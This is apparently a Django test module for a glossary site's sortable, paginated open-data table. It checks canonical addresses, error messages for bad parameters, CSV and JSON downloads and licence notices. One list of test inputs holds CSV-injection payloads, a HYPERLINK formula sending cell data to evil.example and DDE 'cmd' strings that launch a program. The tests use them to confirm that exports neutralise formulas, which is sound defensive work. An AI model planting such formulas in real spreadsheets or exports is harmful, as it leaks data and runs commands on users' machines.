"""The glossary as open data: a sortable, paginated table with CSV and JSON
downloads under CC BY 4.0."""

import csv
import io
import json
import re
from html import unescape
from urllib.parse import parse_qsl, urljoin, urlsplit

import pytest

from ..conftest import add_source

pytestmark = pytest.mark.django_db

TABLE = "/data/glossary/"


def html(response):
    return response.content.decode()


def names(response):
    """Term names in the order the table's rows show them."""
    tbody = re.search(r"<tbody[^>]*>(.*?)</tbody>", html(response), re.S)[1]
    return re.findall(r'<a href="/glossary/[^"]+/">([^<]+)</a>', tbody)


@pytest.fixture
def sourced(glossary):
    """The small glossary, with Reshoring citing three sources and Offshoring two."""
    for term, count in ((glossary["reshoring"], 3), (glossary["offshoring"], 2)):
        for i in range(count):
            add_source(term, title=f"S{i}", url=f"https://x.org/{i}")
    return glossary


def test_the_table_lists_published_terms_by_name_with_their_columns(client, sourced):
    response = client.get(TABLE)
    page = html(response)

    assert names(response) == ["Nearshoring", "Offshoring", "Outsourcing", "Reshoring"]
    headers = re.findall(r'<th [^>]*scope="col"[^>]*>\s*(?:<a [^>]+>)?([^<]+)', page)
    assert [h.strip() for h in headers] == [
        "Term",
        "Category",
        "Definition",
        "Last reviewed",
        "Sources",
    ]
    assert "Bringing work back to the home country." in page
    assert "1 Nov 2026" in page
    assert "Secret draft" not in page


def test_the_table_sorts_by_number_of_sources(client, sourced):
    response = client.get(TABLE, {"sort": "-source_count"})

    assert names(response) == ["Reshoring", "Offshoring", "Outsourcing", "Nearshoring"]
    assert re.search(
        r'<th[^>]*aria-sort="descending"[^>]*>\s*<a[^>]*>Sources', html(response)
    )


def test_the_table_sorts_by_category_then_name(client, sourced):
    response = client.get(TABLE, {"sort": "category"})

    # "Where the work is done" sorts before "Who does the work".
    assert names(response) == ["Nearshoring", "Offshoring", "Reshoring", "Outsourcing"]


def test_the_table_is_paginated(client, make_term):
    for i in range(30):
        make_term(f"Term {i:02}")

    first = client.get(TABLE)
    second = client.get(TABLE, {"page": 2})

    assert names(first) == [f"Term {i:02}" for i in range(25)]
    assert names(second) == [f"Term {i:02}" for i in range(25, 30)]
    assert (
        '<a class="page-link" href="/data/glossary/?page=2" aria-current="page">'
        in html(second)
    )


def canonical(response) -> str:
    found = re.findall(r'<link rel="canonical" href="([^"]+)">', html(response))
    assert len(found) == 1, found
    return unescape(found[0]).removeprefix("http://testserver")


def table_links(url, response) -> set[str]:
    """Every address of the table that the table at `url` links, downloads
    apart (the site's footer links the table's first page too)."""
    main = html(response).split("<main ", 1)[1].split("</main>", 1)[0]
    hrefs = {urljoin(url, unescape(h)) for h in re.findall(r'href="([^"]+)"', main)}
    return {h for h in hrefs if h.startswith(TABLE) and "_export=" not in h}


@pytest.mark.parametrize(
    "start",
    [
        TABLE,
        TABLE + "?page=2&sort=-category",
        TABLE + "?per_page=10&utm_source=newsletter",
        TABLE + "?page=1&sort=name",
    ],
)
def test_every_view_of_the_table_has_one_address(client, make_term, start):
    """Whatever address a visitor arrives at, every link the table writes
    (sort, page, page size kept) is the canonical address of the page it
    leads to, and no view is linked under two parameter orders."""
    for i in range(60):
        make_term(f"Term {i:02}")
    seen, queue = set(), [start]
    while queue:
        url = queue.pop()
        response = client.get(url)
        assert response.status_code == 200, url
        if url != start:
            assert canonical(response) == url
        for link in table_links(url, response) - seen:
            seen.add(link)
            queue.append(link)

    by_parameters = {}
    for link in seen:
        key = tuple(sorted(parse_qsl(urlsplit(link).query)))
        by_parameters.setdefault(key, set()).add(link)
    assert [links for links in by_parameters.values() if len(links) > 1] == []
    # Every page, in every sortable order, and the page size carried along.
    pages = 6 if "per_page" in start else 3
    assert len(seen) == pages * 2 * 4
    assert all(("per_page=10" in link) == ("per_page" in start) for link in seen)


@pytest.mark.parametrize(
    ("address", "expected"),
    [
        (TABLE, TABLE),
        (TABLE + "?page=1", TABLE),
        (TABLE + "?sort=name&page=1&per_page=25", TABLE),
        (TABLE + "?utm_source=x&page=2", TABLE + "?page=2"),
        (TABLE + "?page=2&sort=-category", TABLE + "?sort=-category&page=2"),
        (
            TABLE + "?page=3&per_page=10&sort=-name",
            TABLE + "?sort=-name&per_page=10&page=3",
        ),
        (
            TABLE + "?page=2&sort=category&sort=-name",
            TABLE + "?sort=category&sort=-name&page=2",
        ),
    ],
)
def test_the_table_names_its_canonical_address(client, make_term, address, expected):
    for i in range(60):
        make_term(f"Term {i:02}")

    assert canonical(client.get(address)) == expected


def test_a_table_page_with_an_error_names_no_canonical_address(client, sourced):
    page = html(client.get(TABLE, {"page": "99"}))

    assert 'rel="canonical"' not in page
    assert '<meta name="robots" content="noindex">' in page


def error_summary(response) -> list[str]:
    """The problems listed in the page's GOV.UK error summary."""
    summary = re.search(
        r'<div class="error-summary"[^>]*>.*?<h2[^>]*>There is a problem</h2>'
        r"\s*<ul[^>]*>(.*?)</ul>",
        html(response),
        re.S,
    )
    assert summary, "no error summary"
    return [unescape(item) for item in re.findall(r"<li>(.*?)</li>", summary[1])]


@pytest.mark.parametrize(
    ("params", "message"),
    [
        ({"sort": "password"}, "The table cannot be sorted by “password”. Sort by"),
        ({"sort": "-definition"}, "cannot be sorted by “-definition”"),
        ({"sort": "name,slug"}, "cannot be sorted by “slug”"),
        (
            {"page": "99"},
            "There is no page “99”: pages run from 1 to 1. Showing page 1.",
        ),
        ({"page": "0"}, "There is no page “0”"),
        ({"page": "two"}, "There is no page “two”"),
        ({"page": "-1"}, "There is no page “-1”"),
        ({"page": "²"}, "There is no page “²”"),
        ({"page": "1" * 500}, "There is no page “11111111111111111111”"),
        ({"page": "1" * 5000}, "There is no page “11111111111111111111”"),
        ({"_export": "xlsx"}, "Downloads come as CSV or JSON, not “xlsx”."),
        ({"_export": "csv", "sort": "nope"}, "cannot be sorted by “nope”"),
        ({"per_page": "-5"}, "A page shows 1 to 100 terms, not “-5”."),
        ({"per_page": "-1"}, "A page shows 1 to 100 terms, not “-1”."),
        ({"per_page": "0"}, "A page shows 1 to 100 terms, not “0”."),
        ({"per_page": "101"}, "not “101”"),
        ({"per_page": "9" * 5000}, "not “99999999999999999999”"),
        ({"per_page": "ten"}, "not “ten”"),
        ({"per_page": ""}, "not “”"),
        ({"per_page": "-5", "_export": "csv"}, "not “-5”"),
    ],
)
def test_bad_table_parameters_get_a_clear_answer(client, sourced, params, message):
    response = client.get(TABLE, params)

    assert response.status_code == 400
    assert response["Content-Type"].startswith("text/html")
    assert "<title>Error: " in html(response)
    assert any(message in problem for problem in error_summary(response))
    # The table is still there, in an order and page it can show.
    assert len(names(response)) == 4


def test_every_bad_table_parameter_is_listed(client, sourced):
    response = client.get(
        TABLE, {"sort": "nope", "page": "9", "per_page": "0", "_export": "pdf"}
    )

    assert response.status_code == 400
    problems = error_summary(response)
    assert len(problems) == 4
    assert problems[0].startswith("A page shows 1 to 100 terms")


def test_a_page_size_the_table_can_honour_is_used(client, make_term):
    for i in range(12):
        make_term(f"Term {i:02}")

    response = client.get(TABLE, {"per_page": "5", "page": "3"})

    assert response.status_code == 200
    assert names(response) == ["Term 10", "Term 11"]
    assert client.get(TABLE, {"per_page": "100"}).status_code == 200


@pytest.mark.parametrize(
    "params",
    [{"utm_source": "newsletter"}, {"q": "x", "fbclid": "1"}, {"PAGE": "-1"}],
)
def test_unknown_table_parameters_are_ignored(client, sourced, params):
    response = client.get(TABLE, params)

    assert response.status_code == 200
    assert "There is a problem" not in html(response)
    assert len(names(response)) == 4


def test_csv_download_has_every_term_and_opens_with_the_csv_module(client, sourced):
    response = client.get(TABLE, {"_export": "csv", "sort": "-source_count"})

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert 'filename="sourcing-guide-glossary.csv"' in response["Content-Disposition"]
    assert (
        response["Link"]
        == '<https://creativecommons.org/licenses/by/4.0/>; rel="license"'
    )
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8"))))
    assert [row["Term"] for row in rows] == [
        "Reshoring", "Offshoring", "Outsourcing", "Nearshoring"
    ]  # fmt: skip
    assert rows[0] == {
        "Term": "Reshoring",
        "Slug": "reshoring",
        "Category": "Where the work is done",
        "Definition": "Bringing work back to the home country.",
        "Last reviewed": "2026-11-01",
        "Sources": "3",
        "URL": "http://testserver/glossary/reshoring/",
    }


def test_json_download_parses_and_carries_every_term_across_pages(client, make_term):
    for i in range(30):
        make_term(f"Term {i:02}", definition='Says "quoted", <b>, and ünïcode.')

    response = client.get(TABLE, {"_export": "json", "page": "2"})

    assert response["Content-Type"] == "application/json"
    rows = json.loads(response.content)
    assert len(rows) == 30
    assert rows[0]["Term"] == "Term 00"
    assert rows[0]["Definition"] == 'Says "quoted", <b>, and ünïcode.'
    assert rows[0]["Sources"] == 0


FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_cells_never_start_a_spreadsheet_formula(client, make_term, formula):
    # OWASP "CSV Injection": a spreadsheet runs a cell starting with one of
    # these as a formula; a leading quote makes it text.
    make_term("Offshoring", definition=formula)
    make_term(formula.strip()[:40], slug="formula-name")

    response = client.get(TABLE, {"_export": "csv"})

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8"))))
    for cell in (cell for row in rows for cell in row):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    definitions = [row[3] for row in rows[1:]]
    assert "'" + formula in definitions
    assert "'" + formula.strip()[:40] in [row[0] for row in rows[1:]]


def test_json_download_keeps_text_that_looks_like_a_formula_exactly(client, make_term):
    for i, formula in enumerate(FORMULAS):
        make_term(f"Term {i}", definition=formula)

    response = client.get(TABLE, {"_export": "json"})

    assert [row["Definition"] for row in json.loads(response.content)] == FORMULAS


def test_the_table_states_its_licence_and_offers_both_downloads(client, sourced):
    page = html(client.get(TABLE, {"sort": "category"}))

    assert (
        '<link rel="license" href="https://creativecommons.org/licenses/by/4.0/">'
        in page
    )
    assert "Creative Commons Attribution 4.0 licence (CC BY 4.0)" in page
    assert 'href="/data/glossary/?sort=category&amp;_export=csv" download' in page
    assert 'href="/data/glossary/?sort=category&amp;_export=json" download' in page


def test_the_glossary_index_links_the_table(client, glossary):
    page = html(client.get("/glossary/"))

    assert (
        '<a href="/data/glossary/">a sortable table, to download as open data</a>'
        in page
    )


def test_the_table_and_downloads_keep_a_fixed_query_budget(
    client, make_term, django_assert_num_queries
):
    for i in range(60):
        term = make_term(f"Term {i:02}")
        add_source(term, title="S", url="https://x.org/")

    for params, queries in (
        ({}, 2),
        ({"page": 3, "sort": "-category"}, 2),
        ({"_export": "csv"}, 3),
    ):
        with django_assert_num_queries(queries):
            response = client.get(TABLE, params)
        assert response.status_code == 200


def test_every_page_states_the_glossary_licence(client, glossary):
    for path in ("/", "/glossary/outsourcing/"):
        page = html(client.get(path))
        assert (
            'under the <a href="https://creativecommons.org/licenses/by/4.0/" '
            'rel="license">CC BY 4.0 licence</a>'
        ) in page


def test_the_glossarys_structured_data_names_its_licence(client, glossary):
    page = html(client.get("/glossary/"))
    data = json.loads(
        re.search(r'<script type="application/ld\+json">(.*?)</script>', page, re.S)[1]
    )

    assert data["license"] == "https://creativecommons.org/licenses/by/4.0/"
